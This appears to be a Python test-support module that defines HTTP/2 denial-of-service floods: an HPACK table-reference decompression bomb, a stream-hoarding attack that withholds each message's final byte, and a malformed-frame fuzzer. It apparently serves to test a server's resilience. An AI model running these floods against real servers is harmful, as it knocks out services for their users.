"""Floods of HTTP/2 frames for `make attack`, beside those of `tests.support.attacks`."""

import random
from collections import defaultdict

from tests.support import http2
from tests.support.attacks import DECIDE, Attack
from tests.support.http2 import Connection, connected

MESSAGE_BYTES, WINDOW = 4_000_000, 65_535
LATEST = b"\xbe"
"""The header that the peer's table took last, by its index in HPACK (RFC 7541)."""


async def table_bomb(address: str) -> None:
    """Header lists of 15 KB that unpack to 60 MB: references to one entry of 4 KB in the peer's table of headers."""
    entry = b"\x40" + http2.literal("x-bomb", "a" * 4_000)[1:]  # 0x40: the peer keeps it in its table
    block = http2.header_block(DECIDE)
    flags = http2.END_HEADERS | http2.END_STREAM
    async with connected(address) as connection:
        await connection.send(http2.frame(http2.HEADERS, flags, 1, block + entry))
        for stream in range(3, 2_000, 2):
            await connection.send(http2.frame(http2.HEADERS, flags, stream, block + LATEST * 15_000))
            if connection.closed:
                break


async def greedy_messages(address: str) -> None:
    """A hundred messages of 4 MB on a connection, as far as the server takes them, without their last byte."""
    streams = range(1, 200, 2)
    begun = http2.message(b"", length=MESSAGE_BYTES)
    async with connected(address) as connection:
        for stream in streams:
            await connection.send(http2.call(stream, DECIDE) + http2.body(stream, begun, end=False))
        room = defaultdict(lambda: WINDOW - len(begun), {0: WINDOW - len(begun) * len(streams)})
        left = dict.fromkeys(streams, MESSAGE_BYTES - len(begun) - 1)
        await _fill(connection, room, left)
        async for seen in connection.answers():
            if seen.kind == http2.WINDOW:
                room[seen.stream] += int.from_bytes(seen.payload)
                await _fill(connection, room, left)


async def garbage(address: str) -> None:
    """Bytes that are no HTTP/2, noise behind a proper start, and good frames out of place."""
    draw = random.Random()
    frames = (http2.frame(draw.randrange(12), draw.randrange(256), n % 64, draw.randbytes(n % 64)) for n in range(500))
    async with connected(address) as connection:
        await connection.send(b"".join(frames))
    for begin in (b"GET / HTTP/1.1\r\n\r\n", b"\x16\x03\x01\x02\x00", http2.PREFACE, b""):
        async with connected(address) as connection:
            await connection.send(begin + draw.randbytes(65_536))
            await connection.receive()


FLOODS: dict[str, Attack] = {flood.__name__: flood for flood in (table_bomb, greedy_messages, garbage)}


async def _fill(connection: Connection, room: dict[int, int], left: dict[int, int]) -> None:
    """Send what the windows of the connection (0) and of its streams have room for."""
    for stream in left:
        size = min(room[0], room[stream], left[stream], http2.LONGEST_FRAME)
        if size > 0:
            room[0], room[stream], left[stream] = room[0] - size, room[stream] - size, left[stream] - size
            await connection.send(http2.frame(http2.DATA, 0, stream, b"a" * size))
